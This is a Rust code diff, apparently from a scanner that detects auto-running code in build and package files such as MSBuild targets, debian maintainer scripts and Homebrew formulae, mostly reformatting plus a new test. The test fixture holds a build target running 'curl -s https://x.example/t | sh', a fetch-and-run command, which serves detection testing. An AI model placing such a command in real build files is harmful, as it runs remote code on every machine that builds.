@@ -99,18 +99,50 @@ pub const BUILD_FILES: &[(&str, Runner, &str)] = &[
     ("settings.gradle.kts", Runner::Gradle, "every Gradle build"),
     ("init.gradle", Runner::Gradle, "every Gradle build"),
     ("init.gradle.kts", Runner::Gradle, "every Gradle build"),
-    ("directory.build.props", Runner::MsBuild, "every dotnet build below it"),
-    ("directory.build.targets", Runner::MsBuild, "every dotnet build below it"),
+    (
+        "directory.build.props",
+        Runner::MsBuild,
+        "every dotnet build below it",
+    ),
+    (
+        "directory.build.targets",
+        Runner::MsBuild,
+        "every dotnet build below it",
+    ),
     (".csproj", Runner::MsBuild, "dotnet build"),
     (".fsproj", Runner::MsBuild, "dotnet build"),
     (".vbproj", Runner::MsBuild, "dotnet build"),
     (".targets", Runner::MsBuild, "dotnet build"),
-    ("debian/postinst", Runner::Shell, "dpkg, on every machine installing the package"),
-    ("debian/preinst", Runner::Shell, "dpkg, on every machine installing the package"),
-    ("debian/prerm", Runner::Shell, "dpkg, on every machine removing the package"),
-    ("debian/postrm", Runner::Shell, "dpkg, on every machine removing the package"),
-    (".postinst", Runner::Shell, "dpkg, on every machine installing the package"),
-    (".preinst", Runner::Shell, "dpkg, on every machine installing the package"),
+    (
+        "debian/postinst",
+        Runner::Shell,
+        "dpkg, on every machine installing the package",
+    ),
+    (
+        "debian/preinst",
+        Runner::Shell,
+        "dpkg, on every machine installing the package",
+    ),
+    (
+        "debian/prerm",
+        Runner::Shell,
+        "dpkg, on every machine removing the package",
+    ),
+    (
+        "debian/postrm",
+        Runner::Shell,
+        "dpkg, on every machine removing the package",
+    ),
+    (
+        ".postinst",
+        Runner::Shell,
+        "dpkg, on every machine installing the package",
+    ),
+    (
+        ".preinst",
+        Runner::Shell,
+        "dpkg, on every machine installing the package",
+    ),
 ];
 
 /// The [`BUILD_FILES`] row of `path`, or a Homebrew formula or cask (`Formula/*.rb`,
@@ -118,7 +150,8 @@ pub const BUILD_FILES: &[(&str, Runner, &str)] = &[
 fn build_file(path: &str) -> Option<(&'static str, Runner, &'static str)> {
     let lower = path.to_ascii_lowercase();
     let lower = lower.as_str();
-    let in_folder = |f: &str| lower.contains(&format!("/{f}/")) || lower.starts_with(&format!("{f}/"));
+    let in_folder =
+        |f: &str| lower.contains(&format!("/{f}/")) || lower.starts_with(&format!("{f}/"));
     if lower.ends_with(".rb") && (in_folder("formula") || in_folder("casks")) {
         return Some(("Homebrew formula", Runner::Ruby, "brew install"));
     }
@@ -1145,6 +1178,42 @@ fn mcp_servers(text: &str) -> Vec<Armed> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn build_and_package_files_run_their_code() {
+        let codes = |p: &str, t: &str| -> Vec<String> {
+            armed_commands(p, t).into_iter().map(|a| a.code).collect()
+        };
+        let targets = r#"<Project>
+  <Target Name="T" BeforeTargets="Build">
+    <Exec Command="curl -s https://x.example/t | sh" />
+    <Exec Command='echo &quot;hi&quot; &amp;&amp; id'/>
+  </Target>
+</Project>"#;
+        assert_eq!(
+            codes("/p/Directory.Build.targets", targets),
+            ["curl -s https://x.example/t | sh", "echo \"hi\" && id"]
+        );
+        assert_eq!(
+            codes(
+                "/p/src/Api/Api.csproj",
+                "<Project><PropertyGroup/></Project>"
+            )
+            .len(),
+            0
+        );
+        assert_eq!(
+            codes("/p/debian/postinst", "#!/bin/sh\nid\n"),
+            ["#!/bin/sh\nid\n"]
+        );
+        assert_eq!(codes("/p/debian/acmectl.postinst", "id\n").len(), 1);
+        assert!(codes("/p/debian/control", "Source: x\n").is_empty());
+        assert!(codes("/p/debian/rules", "%:\n\tdh $@\n").is_empty());
+        assert!(codes("/p/Formula/acmectl.rb", "system \"id\"")[0].starts_with("ruby -e "));
+        assert!(codes("/p/lib/formula.rb", "system \"id\"").is_empty());
+        assert!(codes("/p/app/build.gradle.kts", "val x = 1")[0].starts_with("groovy -e "));
+        assert!(codes("/p/gradle.properties", "org.gradle.jvmargs=-Xmx2g").is_empty());
+    }
 
     #[test]
     fn entries_that_run_by_themselves_are_found_and_others_are_not() {
